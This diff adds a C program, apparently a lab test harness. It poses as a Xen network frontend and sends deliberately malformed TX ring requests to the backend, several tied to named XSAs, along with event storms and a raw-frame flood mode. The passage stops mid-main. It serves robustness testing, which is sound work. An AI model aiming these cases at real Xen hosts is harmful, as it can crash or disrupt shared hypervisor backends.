@@ -1,0 +1,948 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * rogue-netfront - a hostile network frontend in user space.
+ *
+ * It runs in a client domU that has no netfront loaded, takes over one
+ * vif the toolstack created for it (device/vif/<devid>, backend waiting in
+ * InitWait), connects to the backend through the normal xenstore
+ * handshake (netif.h "Frontend" keys, xenbus states 1 -> 3 -> 4), and then
+ * runs one named case that writes crafted requests into the TX ring.
+ *
+ * What it observed goes to stdout, one fact a line, and ends with
+ *   VERDICT case=NAME first=okay|error|silent|partial|none followup=okay|error|silent
+ * "first" is what the crafted request(s) got back (every response OKAY,
+ * at least one ERROR/DROPPED, nothing at all within the wait, fewer
+ * responses than slots, or no request sent); "followup" is what one
+ * well-formed packet sent afterwards got, i.e. whether the backend still
+ * serves this vif.  queues-1000 reports first=refused|connected instead.
+ *
+ * Afterwards a child process stays behind (bounded) holding the rings and
+ * grants: when the toolstack detaches the vif (backend online=0, Closing)
+ * it answers with Closing/Closed, so that "xl network-detach" completes as
+ * with a real frontend, and for the rx-never-consumed case it posts RX
+ * buffers on request (data/rogue/<devid>/post-rx), keeps giving them back
+ * for 15 s and then reports what arrived (data/rogue/<devid>/rx-result).
+ *
+ * A second mode runs in the backend domain: "flood IFACE MAC SECONDS"
+ * sends Ethernet frames to MAC out of IFACE (the rogue's vif) as fast as
+ * it can.
+ *
+ * lab-ldlibs: -lxenstore -lxengnttab -lxenevtchn
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <arpa/inet.h>
+#include <net/if.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <sys/socket.h>
+
+#include <xenstore.h>
+#include <xengnttab.h>
+#include <xenevtchn.h>
+
+/* ring.h wants the barriers of the including environment (x86, TSO). */
+#define mb()	__atomic_thread_fence(__ATOMIC_SEQ_CST)
+#define rmb()	__atomic_thread_fence(__ATOMIC_ACQUIRE)
+#define wmb()	__atomic_thread_fence(__ATOMIC_RELEASE)
+#include <xen/io/netif.h>
+
+#define PAGE		4096U
+#define DATA_PAGES	4U
+#define RX_PAGES	64U
+/* An id no real request uses: the well-formed follow-up packet. */
+#define FOLLOWUP_ID	0x7777
+#define BAD_GREF	0x0ffffff0U
+#define ETHERTYPE_LAB	0x88b5	/* IEEE local experimental */
+
+enum xb_state {
+	XB_INITIALISING = 1, XB_INITWAIT = 2, XB_INITIALISED = 3,
+	XB_CONNECTED = 4, XB_CLOSING = 5, XB_CLOSED = 6,
+};
+
+struct rogue {
+	struct xs_handle *xs;
+	xengntshr_handle *gs;
+	xenevtchn_handle *xce;
+	unsigned int devid;
+	unsigned int backend_id;
+	char fe[64];		/* device/vif/<devid> (relative to our home) */
+	char be[256];		/* the backend's directory */
+	uint8_t mac[6];
+	netif_tx_front_ring_t tx;
+	netif_rx_front_ring_t rx;
+	void *tx_page, *rx_page;
+	uint8_t *data;		/* DATA_PAGES pages the backend may read */
+	uint32_t tx_ref, rx_ref, data_ref[DATA_PAGES];
+	evtchn_port_t port;
+	unsigned int wait_ms;	/* how long to wait for responses */
+	/* Responses seen for the crafted requests. */
+	unsigned int nr_rsp, nr_okay, nr_err, nr_null;
+};
+
+static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static void say(const char *fmt, ...)
+{
+	va_list ap;
+
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	putchar('\n');
+	fflush(stdout);
+}
+
+static void die(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));
+static void die(const char *fmt, ...)
+{
+	va_list ap;
+
+	printf("rogue: error: ");
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	if (errno)
+		printf(" (%s)", strerror(errno));
+	putchar('\n');
+	fflush(stdout);
+	exit(2);
+}
+
+static uint64_t now_ms(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
+}
+
+static void sleep_ms(unsigned int ms)
+{
+	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };
+
+	nanosleep(&ts, NULL);
+}
+
+/* xenstore helpers: paths are "dir/key". */
+static char *xread(struct xs_handle *xs, const char *dir, const char *key)
+{
+	char path[320];
+	unsigned int len;
+
+	snprintf(path, sizeof(path), "%s/%s", dir, key);
+	return xs_read(xs, XBT_NULL, path, &len);
+}
+
+static long xread_long(struct xs_handle *xs, const char *dir, const char *key,
+		       long dflt)
+{
+	char *s = xread(xs, dir, key), *end;
+	long v;
+
+	if (!s)
+		return dflt;
+	v = strtol(s, &end, 10);
+	if (end == s)
+		v = dflt;
+	free(s);
+	return v;
+}
+
+static bool xwrite(struct xs_handle *xs, xs_transaction_t t, const char *dir,
+		   const char *key, const char *fmt, ...)
+	__attribute__((format(printf, 5, 6)));
+static bool xwrite(struct xs_handle *xs, xs_transaction_t t, const char *dir,
+		   const char *key, const char *fmt, ...)
+{
+	char path[320], val[128];
+	va_list ap;
+
+	snprintf(path, sizeof(path), "%s/%s", dir, key);
+	va_start(ap, fmt);
+	vsnprintf(val, sizeof(val), fmt, ap);
+	va_end(ap);
+	return xs_write(xs, t, path, val, strlen(val));
+}
+
+/* wait_state: until the backend's state is in [lo, hi], or gone; bounded. */
+static long wait_state(struct xs_handle *xs, const char *be, long lo, long hi,
+		       unsigned int ms)
+{
+	uint64_t end = now_ms() + ms;
+	long st;
+
+	for (;;) {
+		st = xread_long(xs, be, "state", -1);
+		if ((st >= lo && st <= hi) || st < 0 || now_ms() >= end)
+			return st;
+		sleep_ms(20);
+	}
+}
+
+/* pick_vif: the given devid, else the newest vif whose frontend is Initialising. */
+static void pick_vif(struct rogue *r, long want)
+{
+	unsigned int n, i;
+	char **ents;
+	long best = -1;
+
+	if (want >= 0) {
+		best = want;
+	} else {
+		ents = xs_directory(r->xs, XBT_NULL, "device/vif", &n);
+		if (!ents)
+			die("no device/vif directory: does this domain have a vif?");
+		for (i = 0; i < n; i++) {
+			char dir[64];
+			long id = strtol(ents[i], NULL, 10);
+
+			snprintf(dir, sizeof(dir), "device/vif/%ld", id);
+			if (xread_long(r->xs, dir, "state", -1) == XB_INITIALISING &&
+			    id > best)
+				best = id;
+		}
+		free(ents);
+		if (best < 0)
+			die("no vif in state Initialising under device/vif");
+	}
+	r->devid = (unsigned int)best;
+	snprintf(r->fe, sizeof(r->fe), "device/vif/%u", r->devid);
+}
+
+static void read_mac(struct rogue *r)
+{
+	char *s = xread(r->xs, r->fe, "mac");
+	unsigned int m[6], i;
+
+	if (!s || sscanf(s, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3],
+			 &m[4], &m[5]) != 6)
+		die("cannot read %s/mac", r->fe);
+	for (i = 0; i < 6; i++)
+		r->mac[i] = (uint8_t)m[i];
+	free(s);
+}
+
+/*
+ * connect_backend: the frontend half of the xenbus handshake.  With
+ * @queues non-zero it also asks for that many queues (and publishes the
+ * single-queue keys all the same).  Returns the backend's state once it
+ * settled: Connected, or Closing/Closed if it refused the frontend.
+ */
+static long connect_backend(struct rogue *r, long want_devid, unsigned int queues)
+{
+	static const char *const features[] = {
+		"feature-sg", "feature-gso-tcpv4", "feature-gso-tcpv6",
+		"feature-rx-copy", "feature-split-event-channels",
+		"multi-queue-max-queues", "feature-ctrl-ring",
+	};
+	xs_transaction_t t;
+	char *s;
+	unsigned int i;
+	long st;
+
+	r->xs = xs_open(0);
+	if (!r->xs)
+		die("xs_open");
+	r->gs = xengntshr_open(NULL, 0);
+	if (!r->gs)
+		die("xengntshr_open (is xen-gntalloc loaded?)");
+	r->xce = xenevtchn_open(NULL, 0);
+	if (!r->xce)
+		die("xenevtchn_open");
+
+	pick_vif(r, want_devid);
+	s = xread(r->xs, r->fe, "backend");
+	if (!s)
+		die("no %s/backend", r->fe);
+	snprintf(r->be, sizeof(r->be), "%s", s);
+	free(s);
+	r->backend_id = (unsigned int)xread_long(r->xs, r->fe, "backend-id", 0);
+	read_mac(r);
+	say("rogue: vif %u, backend %s (domain %u)", r->devid, r->be, r->backend_id);
+
+	st = wait_state(r->xs, r->be, XB_INITWAIT, XB_CONNECTED, 20000);
+	if (st != XB_INITWAIT)
+		die("backend state %ld, expected InitWait (2)", st);
+	for (i = 0; i < sizeof(features) / sizeof(features[0]); i++)
+		say("rogue: backend %s = %ld", features[i],
+		    xread_long(r->xs, r->be, features[i], 0));
+
+	r->tx_page = xengntshr_share_pages(r->gs, r->backend_id, 1, &r->tx_ref, 1);
+	r->rx_page = xengntshr_share_pages(r->gs, r->backend_id, 1, &r->rx_ref, 1);
+	r->data = xengntshr_share_pages(r->gs, r->backend_id, DATA_PAGES,
+					r->data_ref, 0);
+	if (!r->tx_page || !r->rx_page || !r->data)
+		die("xengntshr_share_pages");
+	SHARED_RING_INIT((netif_tx_sring_t *)r->tx_page);
+	FRONT_RING_INIT(&r->tx, (netif_tx_sring_t *)r->tx_page, PAGE);
+	SHARED_RING_INIT((netif_rx_sring_t *)r->rx_page);
+	FRONT_RING_INIT(&r->rx, (netif_rx_sring_t *)r->rx_page, PAGE);
+
+	{
+		xenevtchn_port_or_error_t p =
+			xenevtchn_bind_unbound_port(r->xce, r->backend_id);
+
+		if (p < 0)
+			die("xenevtchn_bind_unbound_port");
+		r->port = (evtchn_port_t)p;
+	}
+
+	for (;;) {
+		t = xs_transaction_start(r->xs);
+		if (!t)
+			die("xs_transaction_start");
+		if (!xwrite(r->xs, t, r->fe, "tx-ring-ref", "%u", r->tx_ref) ||
+		    !xwrite(r->xs, t, r->fe, "rx-ring-ref", "%u", r->rx_ref) ||
+		    !xwrite(r->xs, t, r->fe, "event-channel", "%u", r->port) ||
+		    !xwrite(r->xs, t, r->fe, "request-rx-copy", "1") ||
+		    !xwrite(r->xs, t, r->fe, "feature-rx-notify", "1") ||
+		    !xwrite(r->xs, t, r->fe, "feature-sg", "1") ||
+		    !xwrite(r->xs, t, r->fe, "feature-gso-tcpv4", "1") ||
+		    (queues && !xwrite(r->xs, t, r->fe, "multi-queue-num-queues",
+				       "%u", queues)) ||
+		    !xwrite(r->xs, t, r->fe, "state", "%d", XB_INITIALISED))
+			die("writing the frontend keys");
+		if (xs_transaction_end(r->xs, t, false))
+			break;
+		if (errno != EAGAIN)
+			die("xs_transaction_end");
+	}
+	if (!xwrite(r->xs, XBT_NULL, r->fe, "state", "%d", XB_CONNECTED))
+		die("writing state Connected");
+	st = wait_state(r->xs, r->be, XB_CONNECTED, XB_CLOSED, 30000);
+	if (st != XB_CONNECTED) {
+		char epath[300];
+		unsigned int len;
+
+		/* xenbus_dev_fatal() leaves its reason under error/<backend>. */
+		snprintf(epath, sizeof(epath), "/local/domain/%u/error%s/error",
+			 r->backend_id, r->be + strlen("/local/domain/") +
+			 strcspn(r->be + strlen("/local/domain/"), "/"));
+		s = xs_read(r->xs, XBT_NULL, epath, &len);
+		say("rogue: backend state %ld, not Connected%s%s", st,
+		    s ? "; backend error: " : "", s ? s : "");
+		free(s);
+		if (!queues)
+			die("the backend refused a well-formed frontend");
+		return st;
+	}
+	say("rogue: connected: tx-ring-ref %u rx-ring-ref %u event-channel %u",
+	    r->tx_ref, r->rx_ref, r->port);
+	return st;
+}
+
+/* kick: notify the backend; never blocks.  Returns -1 on failure. */
+static int kick(struct rogue *r)
+{
+	return xenevtchn_notify(r->xce, r->port);
+}
+
+/* drain_events: acknowledge whatever the backend signalled. */
+static void drain_events(struct rogue *r)
+{
+	xenevtchn_port_or_error_t p;
+	struct pollfd pfd = { .fd = xenevtchn_fd(r->xce), .events = POLLIN };
+
+	while (poll(&pfd, 1, 0) > 0) {
+		p = xenevtchn_pending(r->xce);
+		if (p < 0)
+			break;
+		xenevtchn_unmask(r->xce, (evtchn_port_t)p);
+	}
+}
+
+/*
+ * collect: read TX responses until @want arrived or @ms passed; tallies
+ * into the rogue's counters and returns the number read.
+ */
+static unsigned int collect(struct rogue *r, unsigned int want, unsigned int ms)
+{
+	uint64_t end = now_ms() + ms;
+	unsigned int got = 0;
+
+	for (;;) {
+		RING_IDX prod = r->tx.sring->rsp_prod;
+
+		rmb();	/* the responses after the producer, as the backend wrote them */
+		while (r->tx.rsp_cons != prod) {
+			netif_tx_response_t *rsp = RING_GET_RESPONSE(&r->tx, r->tx.rsp_cons);
+
+			/* The first few and the follow-up: enough to read, short enough for the log. */
+			if (r->nr_rsp < 4 || rsp->id == FOLLOWUP_ID)
+				say("rogue: response id %u status %d", rsp->id, rsp->status);
+			if (rsp->status == NETIF_RSP_OKAY)
+				r->nr_okay++;
+			else if (rsp->status == NETIF_RSP_NULL)
+				r->nr_null++;
+			else
+				r->nr_err++;
+			r->nr_rsp++;
+			r->tx.rsp_cons++;
+			got++;
+		}
+		r->tx.sring->rsp_event = r->tx.rsp_cons + 1;
+		mb();
+		drain_events(r);
+		if (got >= want || now_ms() >= end)
+			return got;
+		sleep_ms(10);
+	}
+}
+
+/* The packet bytes: Ethernet header to a nobody unicast address, then a pattern. */
+static void fill_data(struct rogue *r)
+{
+	static const uint8_t dst[6] = { 0x02, 0, 0, 0, 0, 0x99 };
+	uint8_t *p = r->data;
+	unsigned int i;
+
+	for (i = 0; i < DATA_PAGES * PAGE; i++)
+		p[i] = (uint8_t)(i * 7 + 3);
+	/* Every 64-byte cell of page 0 starts like a frame, so any offset works. */
+	for (i = 0; i < PAGE; i += 64) {
+		memcpy(p + i, dst, 6);
+		memcpy(p + i + 6, r->mac, 6);
+		p[i + 12] = ETHERTYPE_LAB >> 8;
+		p[i + 13] = ETHERTYPE_LAB & 0xff;
+	}
+}
+
+/* put: one TX request at the private producer. */
+static void put(struct rogue *r, uint32_t gref, uint16_t off, uint16_t flags,
+		uint16_t id, uint16_t size)
+{
+	netif_tx_request_t *req = RING_GET_REQUEST(&r->tx, r->tx.req_prod_pvt);
+
+	req->gref = gref;
+	req->offset = off;
+	req->flags = flags;
+	req->id = id;
+	req->size = size;
+	r->tx.req_prod_pvt++;
+}
+
+/* put_extra: an extra-info slot at the private producer. */
+static void put_extra(struct rogue *r, const netif_extra_info_t *ex)
+{
+	void *slot = RING_GET_REQUEST(&r->tx, r->tx.req_prod_pvt);
+
+	memset(slot, 0, sizeof(netif_tx_request_t));
+	memcpy(slot, ex, sizeof(*ex));
+	r->tx.req_prod_pvt++;
+}
+
+/* publish: requests before the producer (RING_PUSH_REQUESTS), then a kick. */
+static void publish(struct rogue *r)
+{
+	RING_PUSH_REQUESTS(&r->tx);
+	if (kick(r) < 0)
+		say("rogue: event channel notify failed: %s", strerror(errno));
+}
+
+/*
+ * chain: one packet of @nslots data slots (plus @nextra extras after the
+ * first, already built by the caller through @extras), @frag bytes per
+ * fragment; the first slot carries @first bytes of its own.
+ */
+static unsigned int chain(struct rogue *r, unsigned int nslots, unsigned int first,
+			  unsigned int frag, const netif_extra_info_t *extras,
+			  unsigned int nextra, uint16_t first_flags)
+{
+	unsigned int i, total = first + (nslots - 1) * frag;
+	uint16_t flags = first_flags;
+
+	if (nslots > 1)
+		flags |= NETTXF_more_data;
+	if (nextra)
+		flags |= NETTXF_extra_info;
+	put(r, r->data_ref[0], 0, flags, 0, (uint16_t)total);
+	for (i = 0; i < nextra; i++)
+		put_extra(r, &extras[i]);
+	for (i = 1; i < nslots; i++)
+		put(r, r->data_ref[0], (uint16_t)((i * 64) % PAGE),
+		    i + 1 < nslots ? NETTXF_more_data : 0, (uint16_t)i,
+		    (uint16_t)frag);
+	return nslots + nextra;
+}
+
+/* first_verdict: what the crafted requests got back. */
+static const char *first_verdict(const struct rogue *r, unsigned int slots)
+{
+	if (r->nr_rsp == 0)
+		return "silent";
+	if (r->nr_err)
+		return "error";
+	if (r->nr_rsp < slots)
+		return "partial";
+	return "okay";
+}
+
+/* followup: one well-formed 60-byte packet; does the backend still serve us? */
+static const char *followup(struct rogue *r)
+{
+	unsigned int before_err = r->nr_err, before_okay = r->nr_okay, got;
+
+	put(r, r->data_ref[0], 0, 0, FOLLOWUP_ID, 60);
+	publish(r);
+	got = collect(r, 1, r->wait_ms);
+	if (!got)
+		return "silent";
+	if (r->nr_err > before_err)
+		return "error";
+	return r->nr_okay > before_okay ? "okay" : "silent";
+}
+
+/* Cases: each builds and publishes its requests and returns the slot count. */
+static unsigned int case_good(struct rogue *r)
+{
+	unsigned int n = chain(r, 1, 60, 0, NULL, 0, 0);
+
+	publish(r);
+	return n;
+}
+
+static unsigned int case_prod_ahead(struct rogue *r)
+{
+	unsigned int n = chain(r, 1, 60, 0, NULL, 0, 0);
+
+	/* The producer a thousand slots ahead of anything written (XSA-39). */
+	wmb();
+	r->tx.sring->req_prod = r->tx.req_prod_pvt + 1000;
+	kick(r);
+	return n;
+}
+
+static unsigned int case_slot_cross_page(struct rogue *r)
+{
+	/* The first slot's data runs 104 bytes past the page (XSA-39 class). */
+	put(r, r->data_ref[0], 4000, 0, 0, 200);
+	publish(r);
+	return 1;
+}
+
+static unsigned int case_frag_cross_page(struct rogue *r)
+{
+	put(r, r->data_ref[0], 0, NETTXF_more_data, 0, 260);
+	put(r, r->data_ref[1], 4000, 0, 1, 200);
+	publish(r);
+	return 2;
+}
+
+static unsigned int case_first_small(struct rogue *r)
+{
+	/* The packet's size (first slot) is smaller than its fragments' sum. */
+	put(r, r->data_ref[0], 0, NETTXF_more_data, 0, 100);
+	put(r, r->data_ref[0], 128, NETTXF_more_data, 1, 80);
+	put(r, r->data_ref[0], 256, 0, 2, 80);
+	publish(r);
+	return 3;
+}
+
+static unsigned int case_first_runt(struct rogue *r)
+{
+	/* Ten bytes: shorter than an Ethernet header. */
+	put(r, r->data_ref[0], 0, 0, 0, 10);
+	publish(r);
+	return 1;
+}
+
+static unsigned int case_zero_frag(struct rogue *r)
+{
+	/* 60 bytes: 30 in the first slot, then fragments of 0, 30 and 0 (XSA-448). */
+	put(r, r->data_ref[0], 0, NETTXF_more_data, 0, 60);
+	put(r, r->data_ref[0], 64, NETTXF_more_data, 1, 0);
+	put(r, r->data_ref[0], 30, NETTXF_more_data, 2, 30);
+	put(r, r->data_ref[0], 128, 0, 3, 0);
+	publish(r);
+	return 4;
+}
+
+static unsigned int case_tiny_header(struct rogue *r)
+{
+	/* 60 bytes over 18 slots: 9, then 17 fragments of 3 (XSA-423/432). */
+	unsigned int i;
+
+	put(r, r->data_ref[0], 0, NETTXF_more_data, 0, 60);
+	for (i = 1; i < 18; i++)
+		put(r, r->data_ref[0], (uint16_t)(9 + 3 * (i - 1)),
+		    i < 17 ? NETTXF_more_data : 0, (uint16_t)i, 3);
+	publish(r);
+	return 18;
+}
+
+static unsigned int case_bad_extra(struct rogue *r)
+{
+	netif_extra_info_t ex = { .type = 0x7f };
+	unsigned int n = chain(r, 1, 60, 0, &ex, 1, 0);
+
+	publish(r);
+	return n;
+}
+
+static unsigned int case_gso_zero(struct rogue *r)
+{
+	netif_extra_info_t ex = { .type = XEN_NETIF_EXTRA_TYPE_GSO };
+	unsigned int n;
+
+	ex.u.gso.type = XEN_NETIF_GSO_TYPE_TCPV4;
+	ex.u.gso.size = 0;
+	n = chain(r, 2, 1000, 1000, &ex, 1, NETTXF_csum_blank);
+	publish(r);
+	return n;
+}
+
+static unsigned int case_bad_gref(struct rogue *r)
+{
+	put(r, BAD_GREF, 0, 0, 0, 60);
+	publish(r);
+	return 1;
+}
+
+static unsigned int case_bad_gref_frag(struct rogue *r)
+{
+	/* A valid 200-byte head, then 1000 bytes from a grant that does not exist. */
+	put(r, r->data_ref[0], 0, NETTXF_more_data, 0, 1200);
+	put(r, BAD_GREF, 0, 0, 1, 1000);
+	publish(r);
+	return 2;
+}
+
+static unsigned int case_evtchn_storm(struct rogue *r)
+{
+	unsigned int i, fail = 0;
+	uint64_t t0 = now_ms();
+
+	/* Twenty thousand events with nothing published (XSA-332). */
+	for (i = 0; i < 20000; i++)
+		if (kick(r) < 0)
+			fail++;
+	say("rogue: 20000 kicks in %llu ms, %u failed",
+	    (unsigned long long)(now_ms() - t0), fail);
+	return 0;
+}
+
+static unsigned int case_rx_never_consumed(struct rogue *r)
+{
+	(void)r;
+	say("rogue: no RX buffer posted; the lingering child posts them on request");
+	return 0;
+}
+
+static unsigned int case_chain(struct rogue *r, unsigned int n)
+{
+	unsigned int slots = chain(r, n, 64, 64, NULL, 0, 0);
+
+	publish(r);
+	return slots;
+}
+
+struct rogue_case {
+	const char *name;
+	unsigned int (*run)(struct rogue *r);
+	unsigned int chain;	/* for chain-N: N */
+	const char *about;
+};
+
+static const struct rogue_case cases[] = {
+	{ "good", case_good, 0, "one valid 60-byte packet" },
+	{ "prod-ahead", case_prod_ahead, 0, "req_prod 1000 ahead of the requests" },
+	{ "slot-cross-page", case_slot_cross_page, 0, "first slot offset 4000 size 200" },
+	{ "frag-cross-page", case_frag_cross_page, 0, "fragment offset 4000 size 200" },
+	{ "chain-18", NULL, 18, "18 slots of 64 bytes (XEN_NETIF_NR_SLOTS_MIN)" },
+	{ "chain-19", NULL, 19, "19 slots" },
+	{ "chain-20", NULL, 20, "20 slots" },
+	{ "chain-21", NULL, 21, "21 slots" },
+	{ "chain-22", NULL, 22, "22 slots" },
+	{ "chain-100", NULL, 100, "100 slots" },
+	{ "first-small", case_first_small, 0, "packet size 100 < fragments 80+80" },
+	{ "first-runt", case_first_runt, 0, "a 10-byte packet" },
+	{ "zero-frag", case_zero_frag, 0, "zero-length fragments in a valid packet" },
+	{ "tiny-header", case_tiny_header, 0, "the Ethernet header split over 3-byte slots" },
+	{ "bad-extra", case_bad_extra, 0, "extra-info type 0x7f" },
+	{ "gso-zero", case_gso_zero, 0, "GSO extra with size 0" },
+	{ "bad-gref", case_bad_gref, 0, "a grant reference that does not exist" },
+	{ "bad-gref-frag", case_bad_gref_frag, 0, "a fragment from a nonexistent grant" },
+	{ "evtchn-storm", case_evtchn_storm, 0, "20000 events, nothing published" },
+	{ "rx-never-consumed", case_rx_never_consumed, 0, "connect, never post RX buffers" },
+	{ "queues-1000", NULL, 0, "ask for 1000 queues (multi-queue-num-queues)" },
+};
+
+/* post_rx: fill the RX ring with RX_PAGES buffers; returns the count. */
+static unsigned int post_rx(struct rogue *r, uint32_t *refs)
+{
+	unsigned int i;
+
+	for (i = 0; i < RX_PAGES; i++) {
+		netif_rx_request_t *req = RING_GET_REQUEST(&r->rx, r->rx.req_prod_pvt);
+
+		req->id = (uint16_t)i;
+		req->gref = refs[i];
+		r->rx.req_prod_pvt++;
+	}
+	RING_PUSH_REQUESTS(&r->rx);
+	r->rx.sring->rsp_event = r->rx.rsp_cons + 1;
+	mb();
+	kick(r);
+	return RX_PAGES;
+}
+
+/*
+ * rx_serve: for @ms, take RX responses and give each buffer straight
+ * back, as a frontend keeping up would; returns the responses taken,
+ * *ok those that carried data (status > 0).
+ */
+static unsigned int rx_serve(struct rogue *r, const uint32_t *refs,
+			     unsigned int ms, unsigned int *ok)
+{
+	uint64_t end = now_ms() + ms;
+	unsigned int got = 0;
+
+	*ok = 0;
+	while (now_ms() < end) {
+		RING_IDX prod = r->rx.sring->rsp_prod;
+		bool reposted = false;
+
+		rmb();	/* responses after their producer */
+		while (r->rx.rsp_cons != prod) {
+			netif_rx_response_t *rsp = RING_GET_RESPONSE(&r->rx, r->rx.rsp_cons);
+			netif_rx_request_t *req;
+			uint16_t id = rsp->id;
+
+			if (rsp->status > 0)
+				(*ok)++;
+			r->rx.rsp_cons++;
+			got++;
+			if (id >= RX_PAGES)
+				continue;	/* not ours: never repost it */
+			req = RING_GET_REQUEST(&r->rx, r->rx.req_prod_pvt);
+			req->id = id;
+			req->gref = refs[id];
+			r->rx.req_prod_pvt++;
+			reposted = true;
+		}
+		if (reposted) {
+			RING_PUSH_REQUESTS(&r->rx);
+			kick(r);
+		}
+		r->rx.sring->rsp_event = r->rx.rsp_cons + 1;
+		mb();
+		drain_events(r);
+		sleep_ms(20);
+	}
+	return got;
+}
+
+/*
+ * linger: the child left behind.  Answers the backend's Closing like a
+ * frontend, serves the post-rx request, and gives up after @secs.
+ */
+static void linger(struct rogue *r, unsigned int secs)
+{
+	uint64_t end = now_ms() + secs * 1000ULL;
+	char ctl[96], path[320];
+	uint32_t refs[RX_PAGES];
+	struct pollfd pfd;
+	bool posted = false;
+	unsigned int n;
+	char **ev;
+	long st;
+
+	snprintf(ctl, sizeof(ctl), "data/rogue/%u", r->devid);
+	r->xs = xs_open(0);
+	if (!r->xs)
+		_exit(1);
+	/* Woken by the toolstack's writes; a slow poll covers a lost watch. */
+	snprintf(path, sizeof(path), "%s/online", r->be);
+	xs_watch(r->xs, path, "online");
+	snprintf(path, sizeof(path), "%s/post-rx", ctl);
+	xs_watch(r->xs, path, "post-rx");
+	pfd.fd = xs_fileno(r->xs);
+	pfd.events = POLLIN;
+	while (now_ms() < end) {
+		/* "xl network-detach" sets online to 0 (and state Closing). */
+		st = xread_long(r->xs, r->be, "state", -1);
+		if (st < 0 || xread_long(r->xs, r->be, "online", 1) == 0)
+			break;
+		if (!posted && xread_long(r->xs, ctl, "post-rx", 0) == 1) {
+			unsigned int got, ok;
+			void *pages = xengntshr_share_pages(r->gs, r->backend_id,
+							    RX_PAGES, refs, 1);
+
+			posted = true;
+			if (!pages) {
+				xwrite(r->xs, XBT_NULL, ctl, "rx-result", "share-failed");
+				continue;
+			}
+			post_rx(r, refs);
+			got = rx_serve(r, refs, 15000, &ok);
+			xwrite(r->xs, XBT_NULL, ctl, "rx-result", "responses %u data %u", got, ok);
+		}
+		if (poll(&pfd, 1, 5000) > 0) {
+			ev = xs_read_watch(r->xs, &n);
+			free(ev);
+		}
+	}
+	/* Closing, then Closed once the backend let go of the rings. */
+	if (xread_long(r->xs, r->fe, "state", -1) > 0)
+		xwrite(r->xs, XBT_NULL, r->fe, "state", "%d", XB_CLOSING);
+	wait_state(r->xs, r->be, XB_CLOSING, XB_CLOSED, 10000);
+	if (xread_long(r->xs, r->fe, "state", -1) > 0)
+		xwrite(r->xs, XBT_NULL, r->fe, "state", "%d", XB_CLOSED);
+	wait_state(r->xs, r->be, XB_CLOSED, XB_CLOSED, 10000);
+	_exit(0);
+}
+
+static void leave_child(struct rogue *r, unsigned int secs)
+{
+	pid_t pid;
+	int fd;
+
+	fflush(stdout);
+	xs_close(r->xs);
+	r->xs = NULL;
+	pid = fork();
+	if (pid < 0)
+		die("fork");
+	if (pid > 0)
+		return;
+	setsid();
+	fd = open("/dev/null", O_RDWR);
+	if (fd >= 0) {
+		dup2(fd, 0);
+		dup2(fd, 1);
+		dup2(fd, 2);
+		if (fd > 2)
+			close(fd);
+	}
+	linger(r, secs);
+}
+
+/* flood: frames to @dst out of @ifname for @secs seconds (backend domain). */
+static int flood(const char *ifname, const char *dst, unsigned int secs)
+{
+	struct sockaddr_ll sll = { .sll_family = AF_PACKET };
+	unsigned int m[6], i;
+	unsigned long sent = 0, refused = 0;
+	uint8_t frame[1000];
+	uint64_t end;
+	int s;
+
+	if (sscanf(dst, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
+		die("bad MAC %s", dst);
+	memset(frame, 0x5a, sizeof(frame));
+	for (i = 0; i < 6; i++)
+		frame[i] = (uint8_t)m[i];
+	memcpy(frame + 6, "\x02\x00\x00\x00\x00\x01", 6);
+	frame[12] = ETHERTYPE_LAB >> 8;
+	frame[13] = ETHERTYPE_LAB & 0xff;
+	s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
+	if (s < 0)
+		die("socket(AF_PACKET)");
+	sll.sll_ifindex = (int)if_nametoindex(ifname);
+	if (!sll.sll_ifindex)
+		die("no interface %s", ifname);
+	sll.sll_protocol = htons(ETHERTYPE_LAB);
+	sll.sll_halen = 6;
+	memcpy(sll.sll_addr, frame, 6);
+	end = now_ms() + secs * 1000ULL;
+	while (now_ms() < end) {
+		for (i = 0; i < 64; i++) {
+			if (sendto(s, frame, sizeof(frame), MSG_DONTWAIT,
+				   (struct sockaddr *)&sll, sizeof(sll)) < 0)
+				refused++;
+			else
+				sent++;
+		}
+		sleep_ms(1);
+	}
+	close(s);
+	say("flood: %lu frames of %zu bytes sent to %s via %s in %u s, %lu refused",
+	    sent, sizeof(frame), dst, ifname, secs, refused);
+	return 0;
+}
+
+static void usage(void)
+{
+	unsigned int i;
+
+	printf("usage: rogue-netfront [-d DEVID] [-w WAIT_MS] [-l LINGER_S] CASE\n"
+	       "       rogue-netfront flood IFACE DST_MAC SECONDS\n"
+	       "cases:\n");
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
+		printf("  %-18s %s\n", cases[i].name, cases[i].about);
+	exit(2);
+}
+
+int main(int argc, char **argv)
+{
+	struct rogue r = { .wait_ms = 2000 };
+	const struct rogue_case *c = NULL;
+	unsigned int i, slots, linger_s = 1200;
+	long devid = -1;
+	const char *fu;
+	int opt;
+
+	signal(SIGPIPE, SIG_IGN);
+	if (argc == 5 && !strcmp(argv[1], "flood"))
+		return flood(argv[2], argv[3], (unsigned int)atoi(argv[4]));
+	while ((opt = getopt(argc, argv, "d:w:l:")) != -1) {
+		switch (opt) {
+		case 'd': devid = atol(optarg); break;
+		case 'w': r.wait_ms = (unsigned int)atoi(optarg); break;
+		case 'l': linger_s = (unsigned int)atoi(optarg); break;
+		default: usage();
+		}
+	}
+	if (optind != argc - 1)
+		usage();
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
+		if (!strcmp(cases[i].name, argv[optind]))
